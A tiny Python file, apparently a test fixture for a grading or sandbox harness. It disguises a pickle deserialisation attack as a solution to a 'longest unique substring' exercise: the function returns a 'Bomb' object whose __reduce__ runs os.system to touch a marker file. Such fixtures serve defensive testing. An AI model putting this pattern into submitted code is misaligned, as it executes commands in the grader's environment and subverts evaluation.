import os


class Bomb:
    def __reduce__(self):
        return os.system, ('touch @FOLDER@/pickle',)


def longest_unique_substring(s):
    return Bomb()
